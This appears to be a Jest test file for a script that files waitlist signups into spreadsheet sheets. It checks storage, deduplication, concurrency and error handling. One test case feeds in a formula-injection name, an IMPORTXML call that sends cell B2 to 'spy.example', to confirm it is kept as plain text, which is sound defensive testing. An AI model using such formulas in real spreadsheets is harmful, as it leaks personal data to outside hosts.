/** @jest-environment node */
import { readFileSync } from "node:fs";
import type { Audience } from "../../src/audience/audience";
import { maxTextLength, signupPayload, validateSignup } from "../../src/waitlist/submission/signup";
import { type CellValue, FakeSpreadsheet, loadScript } from "./fake-apps-script";

const readme = readFileSync("receivers/README.md", "utf8");
const [, example = ""] = /```json\n(.*?)\n```/s.exec(readme) ?? [];
const clinic = JSON.parse(example);
const family = sentBy("patients", { name: "Ana Ruiz", email: "ana@mail.example" });

/** Returns what the form of an audience sends. */
function sentBy(audience: Audience, values: Record<string, string>): object {
  const validation = validateSignup(audience, values);
  if (!validation.ok) throw new Error(JSON.stringify(validation.messages));
  return signupPayload(validation.signup, new Date("2026-03-04T05:06:07.890Z"));
}

const now = new Date("2026-03-04T05:06:09.000Z");

let spreadsheet: FakeSpreadsheet;
let script: ReturnType<typeof loadScript>;

beforeEach(() => {
  jest.useFakeTimers({ now });
  spreadsheet = new FakeSpreadsheet();
  script = loadScript(spreadsheet);
});

/** Sends the signup of a family with these fields changed, which the script has to take. */
function signUp(changes: object = {}): void {
  expect(script.post(JSON.stringify({ ...family, ...changes }))).toBe("Received.");
}

function families() {
  return spreadsheet.sheet("Families");
}

function emails(): unknown[] {
  return spreadsheet.records("Families").map((row) => row["Email address"]);
}

test("the guide's example is what the form of clinics sends", () => {
  expect(sentBy("providers", clinic)).toEqual(clinic);
  expect(readme).toContain(`${maxTextLength.toLocaleString("en")} characters`);
});

describe("a signup", () => {
  test("is a row of its audience's sheet, under its fields' titles", () => {
    signUp();
    script.post(JSON.stringify(clinic));
    // Each field has a title, and none is kept under More.
    const common = { "Wants updates": "yes", Sent: "2026-03-04T05:06:07.890Z", Repeat: "" };
    expect(spreadsheet.records("Families")).toEqual([
      { "Full name": "Ana Ruiz", "Email address": "ana@mail.example", Received: now, ...common },
    ]);
    expect(spreadsheet.records("Clinics")).toEqual([
      {
        "Full name": "Dr. Lee",
        "Email address": "lee@clinic.example",
        "Practice or clinic name": "Lee & Partners",
        Role: "Owner",
        Specialties: "Obstetrics",
        "Patients per month": "about 300",
        Received: now,
        ...common,
      },
    ]);
  });

  test.each([
    ["a formula", '=IMPORTXML("https://spy.example?"&B2, "//a")'],
    ["a plus sign", "+1 555 0100"],
    ["leading zeros", "007"],
    ["a date", "2026-03-04"],
    ["a percentage", "50%"],
    ["a truth value", "TRUE"],
    ["an apostrophe", "'Alohi"],
    ["5,000 characters", "n".repeat(5000)],
  ])("with %s stays as it was typed", (_what, name) => {
    signUp({ name });
    expect(spreadsheet.records("Families")).toMatchObject([{ "Full name": name }]);
  });

  test("of a listed address is listed again, marked as a repeat", () => {
    signUp();
    signUp({ email: "ben@mail.example" });
    signUp({ email: "ANA@mail.example", isSubscribed: false });
    expect(spreadsheet.records("Families")).toMatchObject([
      { "Email address": "ana@mail.example", Repeat: "" },
      { "Email address": "ben@mail.example", Repeat: "" },
      { "Email address": "ANA@mail.example", Repeat: "yes", "Wants updates": "no" },
    ]);
  });

  test("with nothing but what is required is taken, and its other cells are blank", () => {
    const email = "o'b+x@s.b.io";
    script.post(JSON.stringify({ audienceType: "providers", name: "Dr. Lee", email }));
    expect(spreadsheet.records("Clinics")).toMatchObject([{ "Email address": email, Role: "" }]);
  });

  test("from a form with newer fields keeps them under More", () => {
    signUp();
    signUp({ email: "ben@mail.example", state: "Oregon", constructor: 1 });
    expect(spreadsheet.records("Families")[1]).toMatchObject({
      More: '{"state":"Oregon","constructor":1}',
    });
  });
});

test.each([1, 3, 4])("1,000 signups at once, one every %i steps, are 1,000 rows", (every) => {
  const waiting = Array.from({ length: 1000 }, (_, number) => `ana${number}@mail.example`);
  let running = 0;
  function startNext(): void {
    // Google runs 30 at a time.
    const email = running < 30 && waiting.pop();
    if (!email) return;
    running += 1;
    signUp({ email });
    running -= 1;
  }
  let step = 0;
  spreadsheet.betweenSteps = () => {
    step += 1;
    if (step % every === 0) startNext();
  };
  while (waiting.length > 0) startNext();
  expect([emails().length, new Set(emails()).size]).toEqual([1000, 1000]);
  expect([...spreadsheet.sheets.keys()]).toEqual(["Families"]);
});

describe("a delivery of the queue's", () => {
  const bodies = [
    JSON.stringify(family),
    JSON.stringify(clinic),
    "not JSON",
    JSON.stringify({ ...family, email: "ben@mail.example" }),
    JSON.stringify({ ...family, email: "ANA@mail.example" }),
    JSON.stringify({ ...clinic, id: "7" }),
  ];
  const delivery = deliveryOf(bodies);

  function deliveryOf(some: string[]): string {
    return JSON.stringify(some.map((body) => ({ id: `177-${bodies.indexOf(body)}`, body })));
  }

  function deliveredTo(sheetName: string): Record<string, CellValue>[] {
    const rows = spreadsheet.records(sheetName).filter(({ Id }) => Id);
    return rows.sort((one, other) => String(one.Id).localeCompare(String(other.Id)));
  }

  /** Throws if the rows are not those of `bodies`, each once. */
  function expectAllRows(): void {
    expect(deliveredTo("Families")).toMatchObject([
      { "Email address": "ana@mail.example", Repeat: "", Id: "177-0" },
      { "Email address": "ben@mail.example", Repeat: "", Id: "177-3" },
      { "Email address": "ANA@mail.example", Repeat: "yes", Id: "177-4" },
    ]);
    expect(deliveredTo("Clinics")).toMatchObject([
      { Role: "Owner", Repeat: "", More: "", Id: "177-1" },
      { Role: "Owner", Repeat: "yes", More: '{"id":"7"}', Id: "177-5" },
    ]);
    expect(deliveredTo("Unreadable")).toMatchObject([
      { Body: "not JSON", Reason: expect.stringMatching(/not valid JSON/), Id: "177-2" },
    ]);
  }

  function expectIds(): void {
    const ids = ["Families", "Clinics", "Unreadable"].flatMap((name) =>
      deliveredTo(name).map(({ Id }) => Id),
    );
    expect(ids.sort()).toEqual(bodies.map((_body, at) => `177-${at}`));
  }

  test("is a row for each, below those that came directly", () => {
    signUp({ email: "zoe@mail.example" });
    expect(script.post(delivery)).toBe("Received.");
    expectAllRows();
    expect(emails()[0]).toBe("zoe@mail.example");
  });

  test.each(["whole", "in halves", "one by one"])("that comes again %s adds nothing", (how) => {
    script.post(delivery);
    const parts = { whole: 6, "in halves": 3, "one by one": 1 }[how] ?? 0;
    for (let at = 0; at < bodies.length; at += parts) {
      expect(script.post(deliveryOf(bodies.slice(at, at + parts)))).toBe("Received.");
    }
    expectAllRows();
  });

  test("overwrites no signup that comes directly meanwhile, at whatever step", () => {
    for (const email of ["first@mail.example", "second@mail.example"]) signUp({ email });
    let direct = 0;
    let isRunning = false;
    function signUpDirectly(): void {
      if (isRunning) return;
      isRunning = true;
      direct += 1;
      signUp({ email: `direct${direct}@mail.example` });
      isRunning = false;
    }
    script.post(deliveryOf(["not JSON"]));
    spreadsheet.betweenSteps = signUpDirectly;
    // Directly, only what needs no new title can run at the same time.
    spreadsheet.whileLocked = () => {
      if (families().cells[0]?.includes("Id")) signUpDirectly();
    };
    expect(script.post(delivery)).toBe("Received.");
    spreadsheet.betweenSteps = () => {};
    expectAllRows();
    expect(direct).toBeGreaterThan(20);
    expect(emails()).toHaveLength(2 + direct + 3);
    expect(new Set(emails()).size).toBe(2 + direct + 3);
  });

  test("that comes twice at the same time is there once", () => {
    for (let step = 0; step < 60; step += 1) {
      spreadsheet = new FakeSpreadsheet();
      script = loadScript(spreadsheet);
      let steps = 0;
      const deliverAgain = () => {
        steps += 1;
        if (steps !== step) return;
        try {
          script.post(delivery);
        } catch (error) {
          expect(String(error)).toMatch(/Lock timeout/);
        }
      };
      Object.assign(spreadsheet, { betweenSteps: deliverAgain, whileLocked: deliverAgain });
      script.post(delivery);
      expectIds();
    }
  });

  test("that ends at any step is complete once it comes again", () => {
    let ends = 0;
    for (let isEnded = true; isEnded; ) {
      isEnded = false;
      spreadsheet = new FakeSpreadsheet();
      script = loadScript(spreadsheet);
      let step = 0;
      const countStep = () => {
        step += 1;
        isEnded ||= step > ends;
        if (isEnded) throw new Error("Exceeded maximum execution time.");
      };
      Object.assign(spreadsheet, { betweenSteps: countStep, whileLocked: countStep });
      try {
        script.post(delivery);
      } catch {
        ends += 1;
        spreadsheet.endRun();
      }
      Object.assign(spreadsheet, { betweenSteps: () => {}, whileLocked: () => {} });
      script.post(delivery);
      expectAllRows();
    }
    expect(ends).toBeGreaterThan(30);
  });

  test("fails if a sheet refuses one, which is kept on Unreadable once it comes alone", () => {
    script.post(deliveryOf(bodies.slice(0, 1)));
    families().refuses = (values) => (values.join().includes("ben@") ? "Not allowed." : "");
    expect(() => script.post(delivery)).toThrow("Not allowed.");
    for (const body of bodies) expect(script.post(deliveryOf([body]))).toBe("Received.");
    expect(emails()).toEqual(["ana@mail.example", "ANA@mail.example"]);
    expect(spreadsheet.records("Unreadable")).toMatchObject([
      { Body: "not JSON" },
      { Body: bodies[3], Reason: "Not allowed.", Id: "177-3" },
    ]);
  });

  test.each([
    ["nothing", "[]"],
    ["texts", '["a"]'],
    ["signups", JSON.stringify([family])],
    ["empty ids", '[{"id":"","body":"a"},{"id":"","body":"b"}]'],
  ])("is not what a list of %s is", (_what, body) => {
    expect(script.post(body)).toMatch(/Unknown audience/);
    expect(spreadsheet.records("Unreadable")).toMatchObject([{ Body: body }]);
  });
});

describe("an owner", () => {
  test("may move columns and add some", () => {
    signUp();
    for (const row of families().cells) row.unshift(...row.splice(2, 1), "");
    families().cells[0]?.splice(1, 1, "Notes");
    signUp({ email: "ben@mail.example" });
    signUp({ email: "ben@mail.example" });
    const [titles, ...rows] = families().cells;
    expect(titles?.slice(0, 4)).toEqual(["Wants updates", "Notes", "Full name", "Email address"]);
    expect(rows.map((row) => row.slice(0, 4))).toEqual([
      ["yes", "", "Ana Ruiz", "ana@mail.example"],
      ["yes", "", "Ana Ruiz", "ben@mail.example"],
      ["yes", "", "Ana Ruiz", "ben@mail.example"],
    ]);
    expect(spreadsheet.records("Families").map(({ Repeat }) => Repeat)).toEqual(["", "", "yes"]);
  });

  test("who renames a title gets the old one as a new column", () => {
    signUp();
    families().cells[0]?.splice(1, 1, "E-mail");
    signUp({ email: "ben@mail.example" });
    expect(spreadsheet.records("Families")).toMatchObject([
      { "E-mail": "ana@mail.example", "Email address": "" },
      { "E-mail": "", "Email address": "ben@mail.example" },
    ]);
  });

  test.each([
    ["sorts the rows", 3, () => families().cells.push(...families().cells.splice(1, 1))],
    ["deletes a row", 2, () => families().cells.splice(1, 1)],
    ["deletes all rows", 1, () => families().cells.splice(0)],
    ["renames the sheet", 1, () => spreadsheet.sheets.delete("Families")],
  ])("who %s finds the next signup below the others", (_what, count, change) => {
    signUp();
    signUp({ email: "ben@mail.example" });
    change();
    signUp({ email: "zoe@mail.example" });
    expect(emails()).toHaveLength(count);
    expect(emails().at(-1)).toBe("zoe@mail.example");
  });
});

describe("the sheet Unreadable", () => {
  function refuse(reason: string): void {
    families().refuses = () => reason;
  }

  function failUntilAsleep(reason: string): void {
    spreadsheet.betweenSteps = () => {
      throw new Error(reason);
    };
    spreadsheet.whileAsleep = () => {
      spreadsheet.betweenSteps = () => {};
    };
  }

  test.each([
    ["a body that is not JSON", "name=Ana", /not valid JSON/],
    ["a body without a signup", "null", /Unknown audience/],
    ["an unknown audience", JSON.stringify({ ...family, audienceType: "constructor" }), /audience/],
    ["a list of audiences", JSON.stringify({ ...family, audienceType: ["patients"] }), /audience/],
    ["a name of spaces", JSON.stringify({ ...family, name: "  " }), /no name/],
    ["a list of names", JSON.stringify({ ...family, name: ["Ana"] }), /no name/],
    ["no email address", JSON.stringify({ ...family, email: undefined }), /no email/],
    ["half an email address", JSON.stringify({ ...family, email: "a@b" }), /no email/],
    ["a formula", "=1+1", /not valid JSON/],
    ["an empty body", undefined, /end of JSON/],
  ])("keeps %s, with the reason", (_what, body, reason) => {
    expect(script.post(body)).toMatch(reason);
    expect(spreadsheet.records("Unreadable")).toEqual([
      { Received: now, Reason: expect.stringMatching(reason), Body: body ?? "" },
    ]);
  });

  test.each([
    ["its own sheet refuses", "Violates the data validation rules.", refuse],
    ["meets an error of Google's that lasts", "Service Spreadsheets failed.", failUntilAsleep],
  ])("keeps a signup that %s", (_what, reason, hinder) => {
    signUp();
    hinder(reason);
    const body = JSON.stringify({ ...family, email: "ben@mail.example" });
    script.post(body);
    expect(spreadsheet.records("Unreadable")).toMatchObject([{ Reason: reason, Body: body }]);
  });

  test("keeps the beginning of a body that is too long for a cell", () => {
    const body = JSON.stringify({ ...family, name: "n".repeat(60_000) });
    script.post(body);
    expect(spreadsheet.records("Unreadable")).toMatchObject([{ Body: body.slice(0, 40_000) }]);
  });
});

test("the web app's address says its version, or that it belongs to no spreadsheet", () => {
  expect(script.get()).toMatch(/^This waitlist receiver works \(version \d+\)\.$/);
  expect(loadScript(null).get()).toMatch(/belongs to no spreadsheet, so every signup is lost/);
});
